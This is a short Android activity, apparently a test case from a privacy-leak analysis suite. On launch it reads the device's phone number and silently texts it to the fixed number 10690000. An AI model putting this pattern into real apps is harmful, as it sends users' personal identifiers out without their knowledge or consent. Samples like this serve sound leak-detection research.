package cn.privlens.suite.undo_taken_back;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Editor editor = new Editor();
        editor.type("draft");
        editor.type(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getLine1Number());
        setTitle("kept");
        SmsManager.getDefault().sendTextMessage("10690000", null, editor.text(), null, null);
    }
}
